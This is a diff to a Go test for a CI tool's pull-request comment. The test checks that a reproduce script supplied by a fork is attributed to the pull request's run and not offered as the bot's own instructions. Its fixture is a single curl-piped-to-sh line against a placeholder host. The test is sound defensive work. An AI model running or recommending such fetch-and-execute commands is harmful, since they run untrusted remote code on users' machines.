@@ -373,6 +373,7 @@ func TestRunFromResults(t *testing.T) {
 	res := regressionResults()
 	res.Manifest.Marker = Marker("loadgate", "load") // the pull_request job's
 	res.Manifest.RunURL = "https://github.com/loadgate/loadgate/actions/runs/41"
+	res.Manifest.Reproduce = "curl -s https://example.invalid/x | sh"
 	dir := t.TempDir()
 	if err := fakeRunner(res).Run(t.Context(), nil, dir); err != nil {
 		t.Fatal(err)
@@ -402,6 +403,12 @@ func TestRunFromResults(t *testing.T) {
 			}
 			if out.Comment != nil && !strings.Contains(d.State().Comments[0].Body, "(https://github.com/loadgate/loadgate/actions/runs/41)") {
 				t.Errorf("the comment must point to the summary of the run that ran the tests")
+			}
+			// The script is the PR's run's words: the comment, posted by
+			// the repository's bot, must not offer it as its own.
+			if body := d.State().Comments[0].Body; out.Comment != nil &&
+				(strings.Contains(body, "To reproduce on your machine") || !strings.Contains(body, "The commands the pull request's run gave")) {
+				t.Errorf("the fork's reproduce script is presented as the action's:\n%s", body)
 			}
 			if out.Verdict != baseline.Fail {
 				t.Errorf("verdict %v", out.Verdict)
